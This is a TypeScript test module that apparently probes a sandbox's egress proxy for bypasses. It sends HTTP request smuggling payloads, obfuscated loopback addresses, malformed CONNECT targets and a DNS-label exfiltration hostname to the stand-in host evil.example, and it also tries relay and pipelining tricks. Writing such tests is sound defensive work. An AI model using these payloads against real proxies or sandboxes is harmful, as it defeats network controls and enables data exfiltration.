/** Attempts to get past the proxy: by name, by address, through a tunnel that was allowed, by smuggling, by a relay. */
import { once } from 'node:events'
import { type AddressInfo, connect, createServer } from 'node:net'
import { ask, connectTo, get, mustReach, open, reach, tunnel } from './ask.ts'
import { talk } from './network.ts'
import { type Aim, type Attempts, forEach, type Probes, Stopped } from './probe.ts'

const ALLOWED = 'allowed.example'
const LINE = `CONNECT ${ALLOWED}:443 HTTP/1.1\r\n`
const SECOND = 'CONNECT evil.example:443 HTTP/1.1\r\n\r\n'
const CONFLICT = 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n'

const ADDRESSES = [
  ['127.0.0.1', '2130706433', '0x7f.1', '127.1', '0177.0.0.1', '0xa9fea9fe'],
  ['[::1]', '[::ffff:127.0.0.1]', '①②⑦.0.0.1'],
].flat()

const SMUGGLED: Readonly<Record<string, string>> = {
  'plain http for another host': `GET http://${ALLOWED}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
  'plain http with two lengths': `POST http://evil.example/ HTTP/1.1\r\n${CONFLICT}`,
  'two lengths': `${LINE}${CONFLICT}`,
  'a request as content': `${LINE}Content-Length: ${SECOND.length}\r\n\r\n${SECOND}`,
  'two hosts': `${LINE}Host: a\r\nHost: b\r\n\r\n`,
  'a line that ends early': `${LINE}X: y\n${SECOND}`,
  'a folded header': `${LINE}X: y\r\n folded\r\n\r\n`,
}

function hosts(aim: Aim, names: readonly string[]): Probes {
  return forEach(names, (name) => reach(aim, `${name}:443`))
}

/** A probe for each host that the scene names in `words`. */
function namedHosts(aim: Aim): Probes {
  const named = Object.entries(aim.words)
  return Object.fromEntries(named.map(([name, host]) => [name, () => reach(aim, `${host}:443`)]))
}

/** A probe for each broken host; after each, the proxy must still serve the allowed host. */
function brokenHosts(aim: Aim): Probes {
  return forEach(Object.keys(aim.words), async (name) => {
    try {
      return await reach(aim, `${aim.words[name]}:443`)
    } finally {
      await mustReach(aim.proxyPort, ALLOWED)
    }
  })
}

/** Sends bytes that are no proper TLS through an allowed tunnel, to a host that answers any bytes. */
async function sendThrough(aim: Aim, bytes: Buffer): Promise<string> {
  const socket = await tunnel(aim.proxyPort, connectTo(`${ALLOWED}:443`))
  const heard = Promise.withResolvers<string>()
  socket.once('timeout', () => heard.reject(new Error('no answer')))
  socket.once('data', (data) => heard.resolve(String(data)))
  socket.once('close', () => heard.reject(new Stopped('closed')))
  socket.write(bytes)
  socket.resume()
  return await heard.promise.finally(() => socket.destroy())
}

/** Two pipelined requests: the proxy must not serve the second. */
async function pipeline(aim: Aim): Promise<string> {
  const socket = open(aim.proxyPort)
  let text = ''
  const end = Promise.withResolvers<void>()
  const opened = (): number => text.split('HTTP/1.1 200').length - 1
  socket.once('timeout', () => end.reject(new Error('no answer'))).once('close', end.resolve)
  socket.on('data', (chunk: Buffer) => {
    text += chunk.toString('latin1')
    if (opened() === 2) end.resolve()
  })
  socket.write(`${LINE}\r\n${SECOND}`)
  await end.promise.finally(() => socket.destroy())
  if (opened() === 2) return 'a second tunnel'
  throw new Stopped(opened() === 1 ? 'closed after the first' : `answered ${text}`)
}

/** Asks the proxy through a TCP relay inside the sandbox: the relay works, but gets no more than the artist itself. */
async function throughRelay(aim: Aim): Promise<string> {
  const relay = createServer((client) => {
    const onward = connect(aim.proxyPort, '127.0.0.1').on('error', () => undefined)
    client.on('error', () => undefined)
    client.pipe(onward).pipe(client)
  })
  relay.listen(0, '127.0.0.1')
  await once(relay, 'listening')
  const { port } = relay.address() as AddressInfo
  await connectable(port).catch((error: unknown) => {
    relay.close()
    throw error
  })
  await mustReach(port, ALLOWED)
  return await reach({ ...aim, proxyPort: port }, 'evil.example:443').finally(() => relay.close())
}

async function connectable(port: number): Promise<void> {
  const socket = connect(port, '127.0.0.1')
  await once(socket, 'connect').catch((error: unknown) => {
    const { code = '' } = error as NodeJS.ErrnoException
    throw code === 'EACCES' ? new Stopped(code) : error
  })
  socket.destroy()
}

/** Checks that the proxy is gone, then tries to reach a neighbour without it. */
async function aroundProxy(aim: Aim): Promise<string> {
  const reply = await ask(aim.proxyPort, connectTo(`${ALLOWED}:443`))
  if (reply.status !== 0) throw new Error(`the proxy still answers ${reply.status}`)
  return await talk({ host: '10.99.0.1', port: 80 })
}

export const PROXY: Attempts = {
  38: (aim) => hosts(aim, ['evil.example']),
  39: (aim) => hosts(aim, ['c2vjcmv0.evil.example', `secret.${ALLOWED}.evil.example`]),
  40: (aim) => hosts(aim, ADDRESSES),
  41: (aim) => {
    const targets = {
      'a name as user': `${ALLOWED}:443@evil.example:443`,
      'a path': `${ALLOWED}:443/../x`,
      'a scheme': `http://${ALLOWED}:443`,
      'a NUL': `evil.example\0.${ALLOWED}:443`,
      'a soft hyphen': 'all\u00adowed.example:443',
      'a port with a zero in front': `${ALLOWED}:0443`,
      'a port that wraps around': `${ALLOWED}:65979`,
      'a port after a space': `${ALLOWED}: 443`,
      'no port': ALLOWED,
    }
    const all = Object.entries(targets)
    return Object.fromEntries(all.map(([name, target]) => [name, () => reach(aim, target)]))
  },
  42: (aim) => forEach([22, 25, 80, 8443], (port) => reach(aim, `${ALLOWED}:${port}`)),
  43: namedHosts,
  44: (aim) => ({
    'the same name again': async () => {
      await mustReach(aim.proxyPort, 'rebind.example')
      return await reach(aim, 'rebind.example:443')
    },
  }),
  45: (aim) => ({
    'another name in TLS': async () =>
      await get(await tunnel(aim.proxyPort, connectTo(`${ALLOWED}:443`)), 'evil.example'),
  }),
  46: (aim) => {
    const kinds = Object.entries(aim.words)
    return Object.fromEntries(
      kinds.map(([name, text]) => [name, () => sendThrough(aim, Buffer.from(text, 'base64'))]),
    )
  },
  47: (aim) => ({
    ...forEach(Object.keys(SMUGGLED), async (name) => {
      const socket = await tunnel(aim.proxyPort, SMUGGLED[name] ?? '')
      socket.destroy()
      return 'a tunnel'
    }),
    'a second request at once': () => pipeline(aim),
  }),
  48: (aim) => hosts(aim, [`${ALLOWED}.evil.example`, `evil${ALLOWED}`, `sub.${ALLOWED}`]),
  49: (aim) => ({
    'a host of the other': () =>
      reach({ ...aim, proxyPort: Number(aim.words['otherPort']) }, `${ALLOWED}:443`),
  }),
  50: (aim) => ({ 'a relay of its own': () => throughRelay(aim) }),
  52: (aim) =>
    'gone' in aim.words ? { 'the proxy is gone': () => aroundProxy(aim) } : brokenHosts(aim),
}
